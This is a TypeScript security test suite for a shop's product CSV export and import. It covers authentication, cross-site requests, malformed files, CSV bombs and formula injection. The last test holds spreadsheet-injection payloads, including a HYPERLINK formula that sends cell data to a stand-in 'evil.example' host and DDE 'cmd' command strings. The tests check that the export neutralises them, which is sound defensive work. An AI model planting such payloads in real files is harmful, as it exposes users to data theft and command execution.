import 'reflect-metadata';
import { PRODUCT_CSV_COLUMNS, type ProductImportResult } from '@shop/contracts';
import { parse } from 'csv-parse/sync';
import { Client } from 'pg';
import { smallImage } from '../support/images';
import { startShop, type Shop } from '../support/shop';
import { signIn } from '../support/sign-in';
import { asStaff, staffAs, type SignedInStaff } from '../support/staff';

const MAX_BYTES = 1024 * 1024;

type Part = { name: string; bytes: string | Buffer; type?: string } | { field: string; value: string };

/** A multipart POST to the import with these parts, from our own site unless `headers` say otherwise. */
function importParts(shop: Shop, cookie: string, parts: Part[], { query = '?dryRun=false', headers = {} }: { query?: string; headers?: Record<string, string> } = {}) {
  const form = new FormData();
  for (const part of parts) {
    if ('field' in part) form.append(part.field, part.value);
    else form.append('file', new Blob([part.bytes], { type: part.type ?? 'text/csv' }), part.name);
  }
  return fetch(`${shop.base}/api/admin/products/import${query}`, { method: 'POST', headers: { cookie, 'sec-fetch-site': 'same-origin', ...headers }, body: form });
}

/** Attacks on the products CSV export and import: who may, from where, and what they may send. */
describe('security: back office products CSV', () => {
  let shop: Shop;
  let cataloguer: SignedInStaff;
  let db: Client;
  let exported: string;
  /** One good new product's row, to put before the bad parts of a file. */
  let goodRow: string;

  const productCount = async () => Number((await db.query(`SELECT count(*) FROM products`)).rows[0].count);
  const fingerprint = async () => (await db.query(`SELECT id, version, base_price FROM products ORDER BY id`)).rows as unknown[];

  async function refused(res: Promise<Response>, status: number, message: RegExp, before: unknown[]): Promise<void> {
    const answer = await res;
    expect({ status: answer.status, message: ((await answer.json()) as { message: string }).message }).toEqual({ status, message: expect.stringMatching(message) });
    expect(await fingerprint()).toEqual(before);
  }

  beforeAll(async () => {
    // A small limit, so an oversized file costs a test little.
    shop = await startShop({ gateway: { PRODUCT_IMPORT_MAX_BYTES: String(MAX_BYTES) } });
    cataloguer = await staffAs(shop, 'catalogue');
    db = new Client({ connectionString: shop.databases.catalog });
    await db.connect();
    exported = await (await asStaff(shop, cataloguer.cookie, '/api/admin/products/export')).text();
    const [, first] = exported.split('\r\n');
    goodRow = first!.replace(/^CAD-0001,Monsoon Reverie,/, 'SEC-1,Safe Print,');
  }, 120_000);

  afterAll(async () => {
    await db?.end();
    await shop?.stop();
  });

  it('refuses nobody (401), a shopper (401) and the roles without catalogue.edit (403), export and import alike, and writes nothing', async () => {
    const before = await fingerprint();
    const shopper = await signIn(shop, 'csv.shopper@example.in', { 'x-forwarded-for': '10.96.0.1' });
    const support = await staffAs(shop, 'support');
    const fulfilment = await staffAs(shop, 'fulfilment');
    const file = `${PRODUCT_CSV_COLUMNS.join(',')}\r\n${goodRow}\r\n`;
    for (const [cookie, status] of [['', 401], [shopper, 401], [support.cookie, 403], [fulfilment.cookie, 403]] as const) {
      const exportRes = await asStaff(shop, cookie, '/api/admin/products/export');
      expect(exportRes.status).toBe(status);
      expect(await exportRes.text()).not.toContain('Monsoon Reverie');
      expect((await importParts(shop, cookie, [{ name: 'p.csv', bytes: file }])).status).toBe(status);
    }
    // Only the session cookie says who is calling: a forged x-staff header is nobody.
    const forged = JSON.stringify({ id: 1, email: 'owner@curatedartdecor.in', name: 'Owner', role: 'owner' });
    expect((await importParts(shop, '', [{ name: 'p.csv', bytes: file }], { headers: { 'x-staff': forged } })).status).toBe(401);
    expect((await fetch(`${shop.base}/api/admin/products/export`, { headers: { 'x-staff': forged } })).status).toBe(401);
    expect(await fingerprint()).toEqual(before);
  });

  it('refuses an import from another site, a form post included, even with a valid staff cookie', async () => {
    const before = await fingerprint();
    const file = `${PRODUCT_CSV_COLUMNS.join(',')}\r\n${goodRow}\r\n`;
    for (const headers of [{ 'sec-fetch-site': 'cross-site' }, { 'sec-fetch-site': 'same-site' }]) {
      expect((await importParts(shop, cataloguer.cookie, [{ name: 'p.csv', bytes: file }], { headers })).status).toBe(403);
    }
    // An older browser sends no Sec-Fetch-Site, only the attacking page's Origin.
    const form = new FormData();
    form.append('file', new Blob([file], { type: 'text/csv' }), 'p.csv');
    const fromForm = await fetch(`${shop.base}/api/admin/products/import?dryRun=false`, { method: 'POST', headers: { cookie: cataloguer.cookie, origin: 'https://evil.example' }, body: form });
    expect(fromForm.status).toBe(403);
    expect(await fingerprint()).toEqual(before);
  });

  it('refuses what is not a products CSV: JSON, an image, no file, two files, a field, a wrong header, a stray quote, a bad dryRun', async () => {
    const before = await fingerprint();
    const header = PRODUCT_CSV_COLUMNS.join(',');
    const json = await asStaff(shop, cataloguer.cookie, '/api/admin/products/import?dryRun=false', { method: 'POST', body: { csv: exported } });
    expect(json.status).toBe(415);
    await refused(importParts(shop, cataloguer.cookie, [{ name: 'p.csv', bytes: await smallImage('png'), type: 'image/png' }]), 400, /not valid CSV|unknown columns/, before);
    await refused(importParts(shop, cataloguer.cookie, []), 400, /Send the CSV file/, before);
    await refused(importParts(shop, cataloguer.cookie, [{ name: 'a.csv', bytes: exported }, { name: 'b.csv', bytes: exported }]), 400, /Send one CSV file/, before);
    await refused(importParts(shop, cataloguer.cookie, [{ field: 'note', value: 'hello' }]), 400, /Send only the CSV file/, before);
    await refused(importParts(shop, cataloguer.cookie, [{ name: 'p.csv', bytes: `title,price\r\nA,1\r\n` }]), 400, /unknown columns: "price"/, before);
    await refused(importParts(shop, cataloguer.cookie, [{ name: 'p.csv', bytes: `${header}\r\n` }]), 400, /no rows after the header/, before);
    await refused(importParts(shop, cataloguer.cookie, [{ name: 'p.csv', bytes: '' }]), 400, /The file is empty/, before);
    // A good row first, then a line CSV cannot read: refused whole before anything is written.
    await refused(importParts(shop, cataloguer.cookie, [{ name: 'p.csv', bytes: `${header}\r\n${goodRow}\r\nX-1,"Broken "quote,\r\n` }]), 400, /not valid CSV/, before);
    // A multipart body that is not one (a broken boundary) is a 4xx, never a 5xx.
    for (const body of ['garbage', '--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nuniqueProduct']) {
      const broken = await fetch(`${shop.base}/api/admin/products/import?dryRun=false`, {
        method: 'POST',
        headers: { cookie: cataloguer.cookie, 'sec-fetch-site': 'same-origin', 'content-type': 'multipart/form-data; boundary=x' },
        body,
      });
      expect(broken.status).toBeGreaterThanOrEqual(400);
      expect(broken.status).toBeLessThan(500);
    }
    expect(await fingerprint()).toEqual(before);
    for (const query of ['', '?dryRun=yes', '?dryRun=false&extra=1']) {
      expect((await importParts(shop, cataloguer.cookie, [{ name: 'p.csv', bytes: exported }], { query })).status).toBe(400);
    }
  });

  it('refuses a file over the size limit with 413, writing none of its good rows', async () => {
    const before = await fingerprint();
    const rows = Array.from({ length: Math.ceil(MAX_BYTES / goodRow.length) + 10 }, (_, i) => goodRow.replace('SEC-1,', `BIG-${i},`));
    const file = `${PRODUCT_CSV_COLUMNS.join(',')}\r\n${rows.join('\r\n')}\r\n`;
    expect(file.length).toBeGreaterThan(MAX_BYTES);
    await refused(importParts(shop, cataloguer.cookie, [{ name: 'big.csv', bytes: file }]), 413, /at most 1 MB/, before);
  });

  it('refuses a CSV bomb (a huge field, a million columns, endless tiny rows) with 400, never holding more than a line of it', async () => {
    const before = await fingerprint();
    const header = PRODUCT_CSV_COLUMNS.join(',');
    await refused(importParts(shop, cataloguer.cookie, [{ name: 'field.csv', bytes: `${header}\r\nX-1,"${'a'.repeat(900_000)}"\r\n` }]), 400, /not valid CSV/, before);
    await refused(importParts(shop, cataloguer.cookie, [{ name: 'columns.csv', bytes: `${header}\r\n${','.repeat(1_000_000 - 200_000)}\r\n` }]), 400, /not valid CSV/, before);
    await refused(importParts(shop, cataloguer.cookie, [{ name: 'header.csv', bytes: `${','.repeat(900_000)}\r\n` }]), 400, /not valid CSV/, before);
    // Many tiny rows: refused by their number before a report of each is held.
    await refused(importParts(shop, cataloguer.cookie, [{ name: 'rows.csv', bytes: `${header}\n${',\n'.repeat(50_001)}` }]), 400, /more than 50000 rows/, before);
  });

  it('replaying an import changes nothing the second time', async () => {
    const file = `${PRODUCT_CSV_COLUMNS.join(',')}\r\n${goodRow}\r\n`;
    const first = (await (await importParts(shop, cataloguer.cookie, [{ name: 'p.csv', bytes: file }])).json()) as ProductImportResult;
    expect(first.counts).toMatchObject({ created: 1, refused: 0 });
    const before = await productCount();
    const again = (await (await importParts(shop, cataloguer.cookie, [{ name: 'p.csv', bytes: file }])).json()) as ProductImportResult;
    expect(again.counts).toEqual({ created: 0, updated: 0, unchanged: 1, refused: 0 });
    expect(await productCount()).toBe(before);
  });

  it('makes formula-looking text inert in the export (CSV injection), and the import takes the guard off again', async () => {
    const evil = {
      title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      uniqueProduct: 'SEC-EVIL',
      artist: '+cmd|" /C calc"!A0',
      categoryId: 2,
      description: '@SUM(1+1)*cmd|" /C calc"!A0',
      basePrice: 999,
      mainImage: '/media/products/monsoon-reverie/artwork.webp',
      internalImageName: '-2+3+cmd|" /C calc"!A0',
      year: '\t=1',
      style: '\r=1',
      orientation: 'landscape',
    };
    const created = await asStaff(shop, cataloguer.cookie, '/api/admin/products', { method: 'POST', body: evil });
    expect(created.status).toBe(201);
    const csv = await (await asStaff(shop, cataloguer.cookie, '/api/admin/products/export?q=SEC-EVIL')).text();
    const records = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(records).toHaveLength(1);
    for (const [column, cell] of Object.entries(records[0]!)) {
      expect({ column, formula: /^[=+\-@\t\r]/.test(cell) }).toEqual({ column, formula: false });
    }
    expect(records[0]!.title).toBe(`'${evil.title}`);
    const back = (await (await importParts(shop, cataloguer.cookie, [{ name: 'evil.csv', bytes: csv }])).json()) as ProductImportResult;
    expect(back.counts).toEqual({ created: 0, updated: 0, unchanged: 1, refused: 0 });
  });
});
